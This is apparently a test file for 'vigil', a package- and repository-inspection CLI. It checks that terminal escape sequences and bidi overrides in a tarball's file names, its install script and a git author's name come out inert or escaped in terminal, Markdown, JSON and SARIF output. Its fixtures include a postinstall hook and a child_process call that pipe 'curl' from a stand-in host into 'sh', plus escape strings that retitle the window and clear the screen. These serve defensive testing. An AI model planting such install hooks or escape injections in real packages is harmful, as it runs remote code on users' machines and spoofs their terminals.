/**
 * Escape sequences (CSI, OSC, the 8-bit CSI 0x9b) and bidi overrides in the data vigil shows, through
 * the real CLI: a file name and an install script inside a tarball, and a git author's name. The
 * terminal and Markdown show them as inert notation (`\x1b`, `<U+202E>`); JSON and SARIF (like
 * every JSON format) escape them (`\u001b`, `\u009b`, `\u202e`), so the value survives and nothing raw reaches a
 * terminal that shows the output.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeTgz } from '../archive/helpers.js';
import { day, FixtureRepo, MAINTAINER as M, type Who } from '../history/fixture-repo.js';
import { runCli } from '../helpers/run-cli.js';

// Set the window title, clear the screen, an 8-bit CSI, then reverse the rest of the line.
const EVIL = '\x1b]0;pwned\x07\x1b[2J\x9b2J\u202e';
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
let tmp: string;
let tgz: string;

before(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'vigil-escapes-'));
  tgz = join(tmp, 'evil-pkg-1.0.0.tgz');
  const file = `lib/inst${EVIL}all.js`;
  writeFileSync(
    tgz,
    await makeTgz([
      {
        name: 'package/package.json',
        body: JSON.stringify({
          name: 'evil-pkg',
          version: '1.0.0',
          scripts: { postinstall: `curl -s http://payload.invalid/${EVIL}x.sh | sh` },
        }),
      },
      { name: `package/${file}`, body: "const cp = require('child_process');\ncp.execSync('curl -s http://payload.invalid/x.sh | sh');\n" },
    ]),
  );
});
after(() => rmSync(tmp, { recursive: true, force: true }));

const vigil = (args: string[]) => runCli([...args, '--store', join(tmp, 'v.db')], { cwd: tmp, home: tmp });

test('a file name and an install script with escapes: inert in the terminal and Markdown', async () => {
  for (const format of ['terminal', 'markdown']) {
    const r = await vigil(['inspect', tgz, '--format', format]);
    assert.ok(r.code === 0 || r.code === 1, `${format}: exit ${r.code} ${r.stderr}`);
    assert.doesNotMatch(r.stdout + r.stderr, RAW, `${format} carries raw control characters`);
    assert.match(r.stdout, /lib\/inst\\x1b\]0;pwned\\x07\\x1b\[2J\\x9b2J<U\+202E>all\.js/, `${format} shows the file name inertly`);
    assert.match(r.stdout, /payload\.invalid\/\\x1b\]0;pwned/, `${format} shows the script inertly`);
  }
});

test('JSON and SARIF escape C1 and bidi characters; the value is unchanged', async () => {
  for (const format of ['json', 'sarif']) {
    const r = await vigil(['inspect', tgz, '--format', format]);
    assert.ok(r.code === 0 || r.code === 1, `${format}: exit ${r.code} ${r.stderr}`);
    assert.doesNotMatch(r.stdout, RAW, `${format} carries raw control characters`);
    const strings: string[] = [];
    JSON.parse(r.stdout, (_k, v: unknown) => (typeof v === 'string' && strings.push(v), v));
    assert.match(r.stdout, /\\u009b2J\\u202e/, `${format} escapes C1 and bidi characters`);
    assert.ok(
      strings.some((s) => s.includes(`inst${EVIL}all.js`) || s.includes(encodeURIComponent(`inst${EVIL}all.js`))),
      `${format}: the file name survives as it is`,
    );
  }
});

test('a git author name with escapes: inert in `vigil history` terminal and Markdown output', async () => {
  const evil: Who = { name: `Mal${EVIL}lory`, email: 'mallory@mail.example' };
  const repo = new FixtureRepo('vigil-escapes-git-');
  try {
    for (const [y, n] of Object.entries({ 2010: 22, 2011: 4, 2012: 3, 2013: 2, 2014: 2 }))
      for (let i = 0; i < n; i++)
        repo.commit(M, day(`${y}-01-05`, i * Math.floor(330 / n)), `work ${y}.${i}`, { [`src/f${i % 5}.c`]: `int f${y}_${i};\n` });
    repo.tag('v1.0', M, day('2011-06-01'));
    repo.commit(evil, day('2015-02-01'), 'Fix a typo', { 'src/f0.c': 'int fixed;\n' }, M);
    repo.commit(evil, day('2015-05-01'), 'Build: modernise configure', { 'configure.ac': 'AC_INIT([demo], [2.0])\nAC_OUTPUT\n' });
    repo.commit(evil, day('2015-05-03'), 'CI: simplify', { '.github/workflows/ci.yml': 'on: push\njobs: {}\n' });
    for (let i = 0; i < 22; i++) repo.commit(evil, day('2015-06-10', i * 9), `improve ${i}`, { [`src/n${i % 4}.c`]: `int n${i};\n` });
    repo.tag('v2.0', evil, day('2015-09-01'));
    for (const format of ['terminal', 'markdown']) {
      const r = await vigil(['history', repo.dir, '--format', format]);
      assert.ok(r.code === 0 || r.code === 1, `${format}: exit ${r.code} ${r.stderr}`);
      assert.doesNotMatch(r.stdout + r.stderr, RAW, `${format} carries raw control characters`);
      // Markdown escapes the backslash and bracket of the notation outside code spans (`\\x1b\]`) and the `<` (`&lt;`).
      assert.match(
        r.stdout,
        /Mal\\\\?x1b\\?\]0;pwned\\\\?x07\\\\?x1b\\?\[2J\\\\?x9b2J(<|&lt;)U\+202E(>|&gt;)lory/,
        `${format} names the author inertly`,
      );
    }
  } finally {
    repo.remove();
  }
});
